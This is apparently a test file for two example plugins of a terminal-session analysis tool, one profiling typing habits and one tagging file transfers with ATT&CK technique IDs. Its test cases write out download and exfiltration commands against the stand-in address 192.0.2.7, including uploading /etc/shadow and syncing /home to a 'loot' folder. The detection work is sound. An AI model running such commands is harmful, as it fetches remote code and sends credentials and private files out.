import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import {
  assertObserved,
  assertSilent,
  assertTagged,
  assertUntagged,
  commandEvent,
  conformance,
  liftAll,
  loadSessions,
  runPlugin,
  scriptedSession,
} from '@shardscope/sdk/testing';
import habits from '../../../examples/session-habits/src/index.ts';
import direction from '../../../examples/upload-direction/src/index.ts';
import { shardscope } from '../engine/cli/support/command-line.ts';
import { folders } from '../engine/cli/support/recordings.ts';

vi.setConfig({ testTimeout: 60_000 });

const CHECKOUT = join(import.meta.dirname, '../../..');
const SAMPLES = join(CHECKOUT, 'samples');

describe('examples/session-habits', () => {
  it('tells pastes in brackets', async () => {
    const session = scriptedSession(String.raw`
      pastes "\e[200~uname -a\e[201~", presses Enter
      pastes "\e[200~id\e[201~", presses Enter
    `);
    assertObserved(await runPlugin(habits, session), 'session_habits.bracketed_paste', 'always');
    const plain = scriptedSession('pastes "uname -a\\r", waits 1 s, pastes "whoami\\r"');
    assertObserved(await runPlugin(habits, plain), 'session_habits.bracketed_paste', 'never');
  });

  it('counts words a minute by hour', async () => {
    // Half past nine UTC; ten keys a second are 600 a minute, 120 words.
    const startsAt = Date.UTC(2026, 10, 1, 9, 30) / 1000;
    const keys = 'types "the quick brown fox jumps over" at 100 ms';
    const run = await runPlugin(habits, scriptedSession(keys, { startsAt }));
    assertObserved(run, 'session_habits.words_per_minute', [9, 120]);
    const timeless = await runPlugin(habits, scriptedSession(keys, { startsAt: null }));
    assertSilent(timeless, 'session_habits.words_per_minute', 'no wall time');
  });

  it('knows how long commands are', async () => {
    const pastes = ['ls', 'id', 'cat x', 'uname -a', 'netstat -tulpn'];
    const script = pastes.map((command) => `pastes '${command}\\r', waits 1 s`).join('\n');
    const run = await runPlugin(habits, scriptedSession(script));
    assertObserved(run, 'session_habits.command_length', [3, 6, 9]);
  });
});

describe('examples/upload-direction', () => {
  it.each([
    ['wget http://192.0.2.7/x.sh', 'T1105'],
    ['curl -O http://192.0.2.7/x.sh', 'T1105'],
    ['cd /tmp; scp root@192.0.2.7:/x .', 'T1105'],
    ['curl -T /etc/shadow ftp://192.0.2.7/', 'T1048.003'],
    ['curl --upload-file=x http://192.0.2.7', 'T1048.003'],
    ['tar c /home | cat; rsync -a /home me@192.0.2.7:/loot', 'T1048.003'],
  ])('takes %s for %s', async (command, technique) => {
    const run = await liftAll(direction, [commandEvent(command)]);
    expect(run.tags).toHaveLength(1);
    assertTagged(run, technique);
  });

  it.each(['which curl', 'curl --version', 'scp', 'ls -la', 'wget'])(
    'takes %s for no transfer',
    async (command) => assertUntagged(await liftAll(direction, [commandEvent(command)])),
  );
});

describe('the examples', async () => {
  const sessions = await loadSessions(join(SAMPLES, 'web-01'));
  const events = [commandEvent('wget http://192.0.2.7/x.sh')];
  for (const [name, plugin] of Object.entries({ habits, direction })) {
    for (const check of conformance(plugin, { sessions, events })) {
      it(`${name}: ${check.name}`, check.run);
    }
  }

  it('run as a stranger’s plugins do', async () => {
    const { data } = await folders();
    const plugins = ['session-habits', 'upload-direction'].flatMap((name) => [
      '--plugin',
      join(CHECKOUT, 'examples', name),
    ]);
    const recorded = 'packages/create-shardscope-plugin/templates/common/sample';
    const ended = await shardscope(
      ['analyze', join(CHECKOUT, recorded), '--no-workspace', ...plugins],
      { data },
    );
    expect(ended.code).toBe(0);
    expect(ended.stderr).not.toContain('Problem');
    for (const found of ['session_habits.words_per_minute', 'UPLOAD-IN']) {
      expect(ended.stdout).toContain(found);
    }
  });
});
